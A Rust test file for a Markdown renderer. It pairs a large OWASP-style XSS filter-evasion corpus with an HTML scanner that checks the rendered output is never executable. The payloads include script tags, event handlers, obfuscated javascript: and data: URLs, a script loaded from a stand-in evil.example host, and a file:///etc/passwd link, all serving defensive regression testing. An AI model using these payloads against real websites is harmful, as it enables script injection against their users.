//! XSS filter-evasion corpus (OWASP cheat-sheet style) for the article renderer, and the
//! small HTML tag scanner that checks every rendered vector for anything executable.
//! The scanner is itself tested against planted bad strings so the corpus test cannot
//! pass vacuously.

use super::*;

/// Tags the renderer may produce.
#[rustfmt::skip]
const ALLOWED_TAGS: [&str; 26] = [
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "a", "img", "ul", "ol", "li", "blockquote", "pre",
    "code", "em", "strong", "del", "table", "thead", "tbody", "tr", "th", "td", "hr", "br",
];

/// Attributes the renderer may produce (`input` is checked on its own).
const ALLOWED_ATTRS: [&str; 10] = [
    "href", "src", "alt", "title", "rel", "class", "type", "disabled", "checked", "start",
];

/// One tag found by the scanner.
#[derive(Debug)]
struct ScannedTag {
    name: String,
    closing: bool,
    attrs: Vec<(String, String)>,
}

/// A position in the scanned text.
struct Cursor<'a> {
    chars: &'a [char],
    i: usize,
}

impl Cursor<'_> {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.i).copied()
    }

    fn take(&mut self, keep: impl Fn(char) -> bool) -> String {
        self.i = self.i.min(self.chars.len());
        let start = self.i;
        while self.peek().is_some_and(&keep) {
            self.i += 1;
        }
        self.chars[start..self.i].iter().collect()
    }
}

/// Scans `html` for tags; returns the tags and every problem found (empty when nothing
/// in the output could run script, load a document or style the page).
fn scan(html: &str) -> (Vec<ScannedTag>, Vec<String>) {
    let chars: Vec<char> = html.chars().collect();
    let mut c = Cursor {
        chars: &chars,
        i: 0,
    };
    let (mut tags, mut problems) = (Vec::new(), Vec::new());
    loop {
        c.take(|ch| ch != '<');
        if c.peek().is_none() {
            break;
        }
        let at = c.i;
        c.i += 1;
        let closing = c.peek() == Some('/');
        if closing {
            c.i += 1;
        }
        let name = c.take(|ch| ch.is_ascii_alphanumeric()).to_ascii_lowercase();
        if !name.starts_with(|ch: char| ch.is_ascii_alphabetic()) {
            // `<!--`, `<![CDATA[`, `<?`, `</ ` or a bare `<`: the renderer escapes every
            // `<` it does not write itself, so any of these is a leak.
            problems.push(format!("stray '<' at {at}"));
            continue;
        }
        let mut attrs = Vec::new();
        loop {
            c.take(|ch| ch.is_whitespace() || ch == '/');
            match c.peek() {
                None => {
                    problems.push(format!("unterminated <{name}> at {at}"));
                    break;
                }
                Some('>') => {
                    c.i += 1;
                    break;
                }
                Some(_) => {}
            }
            // An `=` where a name should start is part of the name, as in browsers.
            let lead = if c.peek() == Some('=') { "=" } else { "" };
            c.i += lead.len();
            let rest = c.take(|ch| !ch.is_whitespace() && !matches!(ch, '=' | '>' | '/'));
            let attr = format!("{lead}{rest}").to_ascii_lowercase();
            c.take(char::is_whitespace);
            let mut value = String::new();
            if c.peek() == Some('=') {
                c.i += 1;
                c.take(char::is_whitespace);
                value = match c.peek() {
                    Some(q @ ('"' | '\'')) => {
                        c.i += 1;
                        let v = c.take(|ch| ch != q);
                        if c.peek().is_none() {
                            problems.push(format!("unterminated {attr} value at {at}"));
                        }
                        c.i += 1;
                        v
                    }
                    _ => c.take(|ch| !ch.is_whitespace() && ch != '>'),
                };
            }
            attrs.push((attr, value));
        }
        check_tag(&name, closing, &attrs, &mut problems);
        tags.push(ScannedTag {
            name,
            closing,
            attrs,
        });
    }
    (tags, problems)
}

fn check_tag(name: &str, closing: bool, attrs: &[(String, String)], problems: &mut Vec<String>) {
    let is_input = name == "input";
    let allowed = ALLOWED_TAGS.contains(&name) || (is_input && !closing);
    if !allowed {
        problems.push(format!("tag <{name}>"));
    }
    if closing && !attrs.is_empty() {
        problems.push(format!("attributes on </{name}>"));
    }
    if is_input {
        let has = |n: &str, v: &str| attrs.iter().any(|(a, b)| a == n && b == v);
        if !has("type", "checkbox") || !attrs.iter().any(|(a, _)| a == "disabled") {
            problems.push("input that is not a disabled checkbox".to_owned());
        }
    }
    for (attr, value) in attrs {
        if attr.starts_with("on") {
            problems.push(format!("event handler {attr} on <{name}>"));
        } else if attr == "style" {
            problems.push(format!("style on <{name}>"));
        } else if !ALLOWED_ATTRS.contains(&attr.as_str()) {
            problems.push(format!("attribute {attr} on <{name}>"));
        }
        if attr == "href" || attr == "src" {
            let url: String = decode_entities(value)
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_lowercase();
            let end = url.find([':', '/', '?', '#']);
            if let Some(end) = end.filter(|&e| url[e..].starts_with(':')) {
                if !["http", "https", "mailto"].contains(&&url[..end]) {
                    problems.push(format!("{attr}={value:?} on <{name}>"));
                }
            }
        }
    }
}

/// Decodes numeric character references (with or without `;`) and the named ones that
/// matter in URLs.
fn decode_entities(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(pos) = rest.find('&') {
        out.push_str(&rest[..pos]);
        rest = &rest[pos + 1..];
        if let Some(num) = rest.strip_prefix('#') {
            let (hex, digits) = match num.strip_prefix(['x', 'X']) {
                Some(h) => (true, h),
                None => (false, num),
            };
            let digit = |c: char| c.is_ascii_digit() || (hex && c.is_ascii_hexdigit());
            let len = digits.find(|c: char| !digit(c)).unwrap_or(digits.len());
            let code = u32::from_str_radix(&digits[..len], if hex { 16 } else { 10 }).ok();
            if let Some(c) = code.and_then(char::from_u32).filter(|_| len > 0) {
                out.push(c);
                rest = &digits[len..];
                rest = rest.strip_prefix(';').unwrap_or(rest);
                continue;
            }
        }
        #[rustfmt::skip]
        let named = [
            ("amp;", '&'), ("lt;", '<'), ("gt;", '>'), ("quot;", '"'), ("apos;", '\''),
            ("colon;", ':'), ("tab;", '\t'), ("newline;", '\n'), ("sol;", '/'),
            ("lpar;", '('), ("rpar;", ')'),
        ];
        match named.iter().find(|(n, _)| rest.starts_with(n)) {
            Some((n, c)) => {
                out.push(*c);
                rest = &rest[n.len()..];
            }
            None => out.push('&'),
        }
    }
    out.push_str(rest);
    out
}

fn problems(html: &str) -> Vec<String> {
    scan(html).1
}

fn hrefs(html: &str) -> Vec<String> {
    scan(html)
        .0
        .into_iter()
        .flat_map(|t| t.attrs)
        .filter(|(a, _)| a == "href" || a == "src")
        .map(|(_, v)| decode_entities(&v))
        .collect()
}

/// The corpus: raw HTML, dangerous destinations and markup breakouts.
#[rustfmt::skip]
const VECTORS: &[&str] = &[
    // Script tags in every casing and shape.
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>", "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</script>",
    "text <script>alert(1)</script> inline",
    "<script/xss src=\"http://evil.example/x.js\"></script>",
    // Event handlers on harmless-looking tags.
    "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=javascript:alert(1)>", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<img/src=x/onerror=alert(1)>",
    "<img\u{c}src=x\u{c}onerror=alert(1)>", "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<xss onafterscriptexecute=alert(1)>",
    "<a href=\"https://example.com\" onclick=\"alert(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    // Embedding, styling and navigation tags.
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>", "<style/onload=alert(1)>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<template><script>alert(1)</script></template>", "<frameset onload=alert(1)>",
    "<applet code=x>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    // Raw anchors.
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>", "<a\nhref=\"javascript:alert(1)\">x</a>",
    "<a href=\"javas\tcript:alert(1)\">x</a>",
    // Comments, CDATA, processing instructions, doctype.
    "<!-- <script>alert(1)</script> -->", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    // Markdown links with dangerous destinations.
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#x09;script:alert(1))",
    "[x](java&#x0A;script:alert(1))", "[x](jav&#x0D;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](&#0000106&#0000097vascript:alert(1))",
    "[x](%6A%61vascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](javascript\\:alert(1))",
    "[x](javascript:%61lert(1))", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1) )",
    "[x](\u{1}javascript:alert(1))", "[x](ja\u{0}vascript:alert(1))",
    "[x](\u{2028}javascript:alert(1))", "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "[x](javascript:alert(1) \"title\")",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)", "[x](livescript:alert(1))", "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> \"t\"", "[[x](javascript:alert(1))](https://example.com)",
    // Images.
    "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x\" onerror=\"alert(1)](https://example.com/a.png)",
    "![x](https://example.com/a.png \"\\\" onerror=\\\"alert(1)\")",
    "![[x](javascript:alert(1))](https://example.com/i.png)",
    "![<img src=x onerror=alert(1)>](https://example.com/i.png)",
    // Autolinks.
    "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>", "<http://example.com/\" onmouseover=\"alert(1)>",
    // Attribute breakouts through titles and destinations.
    "[x](http://a \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](http://a 'it\\'s \" onmouseover=alert(1)')", "[x](http://a 'a\"b')",
    "[x](<http://a\" onmouseover=\"alert(1)>)",
    "[x](https://example.com/\"><script>alert(1)</script>)",
    "[x](http://example.com/?a=1&#34;onmouseover=alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[x](https://example.com)<script>alert(1)</script>", "<a href=\"[x](javascript:alert(1))\">",
    // Broken and unclosed markup.
    "<img src=\"x", "<<img src=x onerror=alert(1)>>", "<script", "</script><script>alert(1)",
    "*<script>*alert(1)*</script>*",
    // Backticks and code.
    "`<script>alert(1)</script>`", "``<img src=x onerror=alert(1)>``",
    "`` ` <script>alert(1)</script> ``", "```html\n<script>alert(1)</script>\n```",
    "``[x](javascript:alert(1))``",
    // Entity-encoded and escaped text stays text.
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    // NUL bytes, unicode separators, odd whitespace.
    "<scri\u{0}pt>alert(1)</script>", "\u{0}<script>alert(1)</script>",
    "line\u{2028}<script>alert(1)</script>\u{2029}", "\u{feff}<script>alert(1)</script>",
    // Raw HTML inside other blocks.
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "- [ ] <img src=x onerror=alert(1)>", "> <iframe src=javascript:alert(1)>",
    "# <svg/onload=alert(1)>", "# Heading {#x onclick=alert(1)}",
    "1. <object data=x>\n   [y](javascript:alert(1))",
];

#[test]
fn corpus_is_large_enough() {
    assert!(VECTORS.len() >= 60, "{}", VECTORS.len());
}

#[test]
fn nothing_executable_in_any_vector() {
    for vector in VECTORS {
        let html = render(vector);
        let found = problems(&html);
        assert!(found.is_empty(), "{vector:?}\n→ {html}\n{found:?}");
    }
}

#[test]
fn dangerous_links_render_no_anchor() {
    for vector in VECTORS.iter().filter(|v| v.contains("javascript:")) {
        let html = render(vector);
        for href in hrefs(&html) {
            let lower = href.to_lowercase();
            assert!(!lower.contains("javascript:"), "{vector:?} → {html}");
        }
    }
}

#[test]
fn percent_encoded_scheme_is_never_a_javascript_href() {
    let html = render("[x](%6A%61vascript:alert(1))");
    for href in hrefs(&html) {
        assert!(!href.to_lowercase().starts_with("javascript:"), "{html}");
    }
    // Stricter than a browser: a `:` in the first segment makes it a refused scheme.
    assert_eq!(html, "<p>x</p>\n");
}

#[test]
fn raw_script_is_visible_text() {
    let html = render("<script>alert(1)</script>");
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{html}"
    );
}

#[test]
fn encoded_script_stays_text() {
    assert_eq!(
        render("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
    );
}

#[test]
fn title_breakout_stays_inside_the_attribute() {
    let html = render("[x](http://a \"\\\" onmouseover=alert(1) x=\\\"\")");
    assert!(
        html.contains("title=\"&quot; onmouseover=alert(1) x=&quot;\""),
        "{html}"
    );
}

#[test]
fn refused_autolink_keeps_its_text() {
    assert_eq!(
        render("<javascript:alert(1)>"),
        "<p>javascript:alert(1)</p>\n"
    );
}

#[test]
fn scanner_accepts_the_renderers_own_output() {
    let md = "# T\n\n[a](https://e.com \"t\") ![i](/i.png)\n\n- [x] done\n\n| a |\n|---|\n| b |\n\n```rs\nx\n```\n\n1. one\n\n> q\n\n---\n\n~~d~~ **s** *e* `c`  \nz";
    let html = render(md);
    assert!(problems(&html).is_empty(), "{html}\n{:?}", problems(&html));
    assert_eq!(hrefs(&html), ["https://e.com", "/i.png"]);
    let (tags, _) = scan(&html);
    let opened: Vec<&str> = tags
        .iter()
        .filter(|t| !t.closing)
        .map(|t| t.name.as_str())
        .collect();
    for name in [
        "h1", "a", "img", "input", "table", "th", "td", "pre", "ol", "hr", "del", "br",
    ] {
        assert!(opened.contains(&name), "no <{name}> in {html}");
    }
    let paired = [
        "p",
        "a",
        "li",
        "table",
        "code",
        "blockquote",
        "strong",
        "em",
        "del",
    ];
    for name in paired {
        let count = |closing: bool| {
            tags.iter()
                .filter(|t| t.name == name && t.closing == closing)
                .count()
        };
        assert_eq!(count(false), count(true), "unbalanced <{name}> in {html}");
    }
}

#[test]
fn nul_bytes_become_replacement_characters() {
    assert_eq!(render("a\0b"), "<p>a\u{FFFD}b</p>\n");
    assert_eq!(render("[x](ja\0vascript:alert(1))"), "<p>x</p>\n");
}

#[test]
fn numeric_references_without_semicolons_stay_literal() {
    // CommonMark only decodes `&#106;` with its `;`. Here the `#` comes before the `:`,
    // so this is a relative URL with a fragment; browsers never decode entities inside
    // a URL, so it cannot become `javascript:`.
    let html = render("[x](&#0000106&#0000097vascript:alert(1))");
    assert_eq!(hrefs(&html), ["&#0000106&#0000097vascript:alert(1)"]);
    assert!(problems(&html).is_empty());
}

#[test]
fn scanner_catches_planted_bad_strings() {
    #[rustfmt::skip]
    let planted = [
        "<script>alert(1)</script>", "<p><SCRIPT>x</SCRIPT></p>", "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\" />", "<a href=\"javascript:alert(1)\">x</a>",
        "<a href='JavaScript:alert(1)'>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\" java script:alert(1)\">x</a>", "<img src=\"data:image/svg+xml,x\" />",
        "<p style=\"color:red\">x</p>", "<svg onload=alert(1)>",
        "<iframe src=\"https://e.com\"></iframe>", "<!-- comment -->", "<![CDATA[x]]>",
        "<input type=\"text\">", "<input type=\"checkbox\">", "<p title=\"unterminated>",
        "<a href=\"https://e.com\"", "</p onclick=x>", "a < b",
        "<a href=\"https://e.com\" formaction=\"x\">",
    ];
    for bad in planted {
        assert!(!problems(bad).is_empty(), "scanner missed {bad:?}");
    }
}

#[test]
fn entity_decoder() {
    assert_eq!(
        decode_entities("&#106;&#x61;&#0000118a&colon;&amp;&zz;"),
        "java:&&zz;"
    );
}

/// Random mixes of dangerous fragments never produce anything executable.
#[cfg(not(target_arch = "wasm32"))]
mod mixes {
    use proptest::prelude::*;

    use super::{problems, render};

    #[rustfmt::skip]
    const FRAGMENTS: [&str; 30] = [
        "<", ">", "[", "]", "(", ")", "](", "![", "!", "\"", "'", "`", "\\", "&", "#", ";", ":",
        "\n", "\t", " ", "\0", "javascript", "script", "img onerror=", "&#106;", "&colon;",
        "data", "http://a", "<javascript:", "<a href=",
    ];

    proptest! {
        #[test]
        fn random_fragment_mixes_are_safe(parts in prop::collection::vec(prop::sample::select(&FRAGMENTS[..]), 0..40)) {
            let md = parts.concat();
            let html = render(&md);
            let found = problems(&html);
            prop_assert!(found.is_empty(), "{:?} → {} {:?}", md, html, found);
        }
    }
}
